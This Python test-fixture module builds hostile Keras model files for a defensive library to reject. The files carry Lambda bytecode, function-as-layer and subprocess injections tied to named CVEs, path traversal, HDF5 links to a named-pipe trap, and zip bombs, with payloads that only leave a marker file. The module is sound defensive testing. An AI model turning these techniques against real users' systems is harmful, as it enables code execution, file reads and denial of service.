"""Files that try each published attack on whoever loads a Keras net; payloads only leave a marker.

`ATTACKS` maps a name to `Attack`: the class it stands for, a function (folder, marker) that
writes the file and gives its path, and the project's error that must refuse it. Most start from
`original(ending)`, a good net.
"""

import io
import json
import os
import struct
import zipfile
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import h5py
import numpy as np

from badnet_defense.errors import (
    CodeInNetError,
    FilterInFileError,
    InputError,
    LinkInFileError,
    MemberError,
    TooLargeError,
    UnsafeNetError,
    ValuesElsewhereError,
    WeightError,
)


@dataclass(frozen=True)
class Attack:
    """One way to attack: what it is, who writes the file, who must refuse it."""

    about: str
    write: object
    error: type
    for_keras: bool = False
    """Whether plain Keras may be tried on it: its payload does no more than leave the marker."""


ATTACKS = {}


def attack(about, error, *, for_keras=False):
    """Registers a function (folder, marker) under its name."""

    def register(write):
        ATTACKS[write.__name__] = Attack(about, write, error, for_keras)
        return write

    return register


@cache
def original(ending):
    """The bytes of a good net's file, "h5" or "keras"."""
    import tempfile

    from hostile_nets import plain_net

    from badnet_defense.nets import save_net

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"net.{ending}"
        model = plain_net()
        save_net(model, path) if ending == "h5" else model.save(path)
        return path.read_bytes()


def h5_net(folder, change_config=None, change_file=None):
    """A good `.h5` with its configuration (a dict) or its open file changed."""
    path = folder / "net.h5"
    path.write_bytes(original("h5"))
    with h5py.File(path, "r+") as file:
        if change_config is not None:
            document = json.loads(file.attrs["model_config"])
            change_config(document)
            file.attrs["model_config"] = json.dumps(document)
        if change_file is not None:
            change_file(file)
    return path


def keras_net(folder, change_config=None, **members):
    """A good `.keras` with its configuration changed, and members added or replaced."""
    path = folder / "net.keras"
    with zipfile.ZipFile(io.BytesIO(original("keras"))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    if change_config is not None:
        document = json.loads(parts["config.json"])
        change_config(document)
        parts["config.json"] = json.dumps(document).encode()
    parts |= members
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def layer(document, place=1):
    """The document of the layer at a place: 0 input, 1 convolution, 2 flatten, 3 dense."""
    return document["config"]["layers"][place]


def become(kind, config, *, module="keras.layers", registered=None, place=2):
    """A change that puts another layer in the place of one."""

    def change(document):
        old = layer(document, place)
        old.update(class_name=kind, module=module, registered_name=registered)
        old["config"] = {"name": old["config"]["name"], "dtype": "float32", **config}

    return change


def kernel_name(file):
    """The path of the convolution's kernel."""
    names = []
    file["model_weights/conv"].visititems(
        lambda name, node: names.append(name) if isinstance(node, h5py.Dataset) else None
    )
    return "model_weights/conv/" + next(name for name in names if "kernel" in name)


# Code in the configuration ------------------------------------------------------------------------


def _lambda(marker):
    """A Lambda's configuration as Keras writes it: marshalled bytecode that leaves the marker."""
    from keras.src.utils import python_utils

    code = eval(f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]")
    dumped = {
        "class_name": "__lambda__",
        "config": dict(
            zip(("code", "defaults", "closure"), python_utils.func_dump(code), strict=True)
        ),
    }
    return {"function": dumped, "arguments": {}}


@attack("Lambda with bytecode, .h5", CodeInNetError, for_keras=True)
def lambda_in_h5(folder, marker):
    return h5_net(folder, become("Lambda", _lambda(marker)))


@attack("Lambda with bytecode, .keras", CodeInNetError, for_keras=True)
def lambda_in_keras(folder, marker):
    return keras_net(folder, become("Lambda", _lambda(marker)))


@attack("Lambda inside a nested model", CodeInNetError, for_keras=True)
def lambda_in_nested_model(folder, marker):
    def change(document):
        inner = json.loads(json.dumps(document))
        become("Lambda", _lambda(marker))(inner)
        inner["config"]["name"] = "inner"
        place = document["config"]["layers"]
        place.insert(1, inner if "name" in inner else {**inner, "name": "inner"})

    return h5_net(folder, change)


@attack("Lambda wrapped in another layer", CodeInNetError, for_keras=True)
def lambda_in_a_wrapper(folder, marker):
    inner = {"class_name": "Lambda", "module": "keras.layers", "registered_name": None}
    inner["config"] = {"name": "inner", **_lambda(marker)}
    return keras_net(folder, become("TimeDistributed", {"layer": inner}))


@attack("any function of any module as a layer (CVE-2025-1550)", CodeInNetError, for_keras=True)
def module_function_as_layer(folder, marker):
    def change(document):
        old = layer(document, 2)
        old.update(class_name="function", module="os", registered_name="mkdir")
        old["config"] = "mkdir"
        old["inbound_nodes"] = [{"args": [str(marker)], "kwargs": {}}]

    return keras_net(folder, change)


@attack("a function of Keras' own with side effects (CVE-2025-8747)", CodeInNetError,
        for_keras=True)  # fmt: skip
def get_file_as_layer(folder, marker):
    source = folder / "payload"
    source.write_text("x")

    def change(document):
        old = layer(document, 2)
        old.update(class_name="function", module="keras.utils", registered_name="get_file")
        old["config"] = "get_file"
        where = {"fname": str(marker), "origin": source.as_uri()}
        old["inbound_nodes"] = [{"args": [], "kwargs": where}]

    return keras_net(folder, change)


@attack("a function named as an activation", UnsafeNetError, for_keras=True)
def function_as_activation(folder, marker):
    def change(document):
        layer(document)["config"]["activation"] = {
            "class_name": "function", "module": "os", "registered_name": "mkdir",
            "config": "mkdir",
        }  # fmt: skip

    return keras_net(folder, change)


@attack("a Lambda as a convolution's activation", UnsafeNetError, for_keras=True)
def lambda_as_activation(folder, marker):
    def change(document):
        layer(document)["config"]["activation"] = {
            "class_name": "__lambda__", "config": _lambda(marker)["function"]["config"],
        }  # fmt: skip

    return keras_net(folder, change)


@attack("a class of somebody's own by a plain one's name", CodeInNetError, for_keras=True)
def registered_class(folder, marker):
    return keras_net(folder, become("Flatten", {}, registered="somebody>Flatten"))


@attack("a layer of another module", CodeInNetError, for_keras=True)
def foreign_module(folder, marker):
    return keras_net(folder, become("Popen", {"args": ["touch", str(marker)]}, module="subprocess"))


@attack("TFSMLayer, which loads a SavedModel from a path", CodeInNetError, for_keras=True)
def tfsm_layer(folder, marker):
    target = {"filepath": str(folder / "saved_model"), "call_endpoint": "serve"}
    return keras_net(folder, become("TFSMLayer", target))


@attack("StringLookup, which reads any file or URL (CVE-2025-12058)", CodeInNetError,
        for_keras=True)  # fmt: skip
def string_lookup(folder, marker):
    secret = folder / "secret.txt"
    secret.write_text("a\nb\n")
    return keras_net(folder, become("StringLookup", {"vocabulary": str(secret), "invert": False}))


@attack("a graph of operations, .keras", CodeInNetError)
def bare_operation(folder, marker):
    return keras_net(folder, become("Call", {}, module="keras.src.ops.operation"))


@attack("a layer's name as a path", UnsafeNetError, for_keras=True)
def name_as_path(folder, marker):
    def change(document):
        layer(document)["config"]["name"] = f"../../../../../..{marker}"

    return h5_net(folder, change)


# Links and values elsewhere -----------------------------------------------------------------------


def _relinked(link):
    def change(file):
        name = kernel_name(file)
        del file[name]
        file[name] = link

    return change


def _trap(folder):
    """A named pipe: who opens it to read waits for ever."""
    os.mkfifo(folder / "trap.h5")
    return str(folder / "trap.h5")


@attack("external link in place of a weight", LinkInFileError)
def external_link(folder, marker):
    return h5_net(folder, None, _relinked(h5py.ExternalLink(_trap(folder), "/kernel")))


@attack("external link in place of a group", LinkInFileError)
def external_group(folder, marker):
    def change(file):
        del file["model_weights/conv"]
        file["model_weights/conv"] = h5py.ExternalLink(_trap(folder), "/")

    return h5_net(folder, None, change)


@attack("soft link", LinkInFileError)
def soft_link(folder, marker):
    return h5_net(folder, None, _relinked(h5py.SoftLink("/model_weights/out")))


@attack("soft link to itself", LinkInFileError)
def soft_link_loop(folder, marker):
    return h5_net(folder, None, _relinked(h5py.SoftLink("/model_weights/conv/conv")))


@attack("user-defined link", LinkInFileError)
def user_defined_link(folder, marker):
    """An external link whose type byte (64) is changed to one that the library does not know."""
    target = _trap(folder)
    path = external_link_at(folder, target)
    content = bytearray(path.read_bytes())
    kind = content.index(target.encode())
    # A link message: version 1, flags of which 8 says that the type comes next, the type.
    while not (content[kind] == 64 and content[kind - 2] == 1 and content[kind - 1] & 8):
        kind -= 1
    content[kind] = 201
    path.write_bytes(content)
    return path


def external_link_at(folder, target):
    return h5_net(folder, None, _relinked(h5py.ExternalLink(target, "/kernel")))


@attack("weights in another file (external storage)", ValuesElsewhereError)
def external_storage(folder, marker):
    def change(file):
        name = kernel_name(file)
        shape = file[name].shape
        del file[name]
        file.create_dataset(name, shape, "f4", external=[(_trap(folder), 0, 4000)])

    return h5_net(folder, None, change)


@attack("weights in another file (virtual dataset)", ValuesElsewhereError)
def virtual_dataset(folder, marker):
    def change(file):
        name = kernel_name(file)
        layout = h5py.VirtualLayout(file[name].shape, "f4")
        layout[...] = h5py.VirtualSource(_trap(folder), "kernel", file[name].shape)
        del file[name]
        file.create_virtual_dataset(name, layout)

    return h5_net(folder, None, change)


@attack("an HDF5 filter that would be loaded as a plug-in", FilterInFileError)
def foreign_filter(folder, marker):
    def change(file):
        name = kernel_name(file)
        values = file[name][...]
        del file[name]
        file.create_dataset(name, data=values, chunks=values.shape, compression="gzip")

    path = h5_net(folder, None, change)
    content = bytearray(path.read_bytes())
    # The filter message: version 2 has the id (1: deflate) as two bytes, then flags and values.
    place = _filter_message(content)
    content[place : place + 2] = struct.pack("<H", 32015)  # zstd, a plug-in
    path.write_bytes(content)
    return path


def _filter_message(content):
    """Where the one filter's id stands: a version-1 message with deflate's name in it."""
    named = content.find(b"deflate\0")
    if named >= 0:
        return named - 8
    raise AssertionError("no filter message found")


# Bombs --------------------------------------------------------------------------------------------


@attack("a weight that claims 1 TB, never stored", TooLargeError)
def claimed_weight(folder, marker):
    def change(file):
        name = kernel_name(file)
        del file[name]
        file.create_dataset(name, (2**19, 2**19), "f4", chunks=(1024, 1024))

    return h5_net(folder, None, change)


@attack("a weight that unpacks to 1000 times its size", TooLargeError)
def packed_weight(folder, marker):
    def change(file):
        name = kernel_name(file)
        del file[name]
        packed = {"chunks": (2**11, 2**10), "compression": "gzip"}
        file.create_dataset(name, (2**12, 2**13), "f4", **packed)[:2048, :1024] = 0.0

    return h5_net(folder, None, change)


@attack("one chunk of a gigabyte", TooLargeError)
def huge_chunk(folder, marker):
    def change(file):
        name = kernel_name(file)
        del file[name]
        file.create_dataset(
            name, (2, 2), "f4", maxshape=(None, None), chunks=(2**14, 2**14), compression="gzip"
        )

    return h5_net(folder, None, change)


@attack("a layer that is configured to need 17 GB", (TooLargeError, UnsafeNetError))
def configured_size(folder, marker):
    def change(document):
        layer(document, 3)["config"]["units"] = 2**16
        layer(document, 1)["config"]["filters"] = 2**16

    return h5_net(folder, change)


@attack("a count beyond any net", UnsafeNetError)
def configured_count(folder, marker):
    def change(document):
        layer(document, 3)["config"]["units"] = 2**62

    return h5_net(folder, change)


@attack("a configuration nested a million deep", (UnsafeNetError, TooLargeError))
def deep_configuration(folder, marker):
    path = keras_net(folder, None, **{"config.json": b"[" * 10**6})
    return path


@attack("a configuration that unpacks to 64 MB", TooLargeError)
def zip_bomb_configuration(folder, marker):
    return keras_net(folder, None, **{"config.json": b" " * 2**26})


@attack("weights that unpack to 1000 times their size", TooLargeError)
def zip_bomb_weights(folder, marker):
    path = folder / "net.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with zipfile.ZipFile(io.BytesIO(original("keras"))) as good:
            archive.writestr("metadata.json", good.read("metadata.json"))
            archive.writestr("config.json", good.read("config.json"))
        with archive.open("model.weights.h5", "w", force_zip64=True) as member:
            for _ in range(128):
                member.write(bytes(2**20))
    return path


@attack("a zip header that lies about the size", (TooLargeError, InputError))
def zip_lying_header(folder, marker):
    path = zip_bomb_weights(folder, marker)
    content = bytearray(path.read_bytes())
    entry = content.rindex(b"PK\x01\x02")  # in the directory: 20 bytes on, packed and unpacked size
    content[entry + 24 : entry + 28] = struct.pack("<I", 2**20)
    path.write_bytes(content)
    return path


@attack("twenty thousand members", MemberError)
def many_members(folder, marker):
    return keras_net(folder, None, **{f"assets/{place}": b"" for place in range(20_000)})


@attack("a member with a path out of the folder", MemberError)
def path_traversal(folder, marker):
    return keras_net(folder, None, **{f"../../../../../../..{marker}": b"x"})


@attack("a member twice", MemberError)
def member_twice(folder, marker):
    import warnings

    path = keras_net(folder)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("config.json", "{}")
    return path


@attack("weights that are no numbers", WeightError)
def not_finite(folder, marker):
    def change(file):
        file[kernel_name(file)][0, 0, 0, 0] = np.nan

    return h5_net(folder, None, change)


@attack("weights of another type", WeightError)
def objects_as_weights(folder, marker):
    def change(file):
        name = kernel_name(file)
        shape = file[name].shape
        del file[name]
        file.create_dataset(name, shape, h5py.string_dtype())

    return h5_net(folder, None, change)


@attack("an attribute of 100 MB", (TooLargeError, UnsafeNetError))
def huge_attribute(folder, marker):
    path = folder / "net.h5"
    with h5py.File(path, "w", libver="latest") as file:
        file.attrs.create("model_config", np.zeros(100 * 2**20, "S1"))
    return path
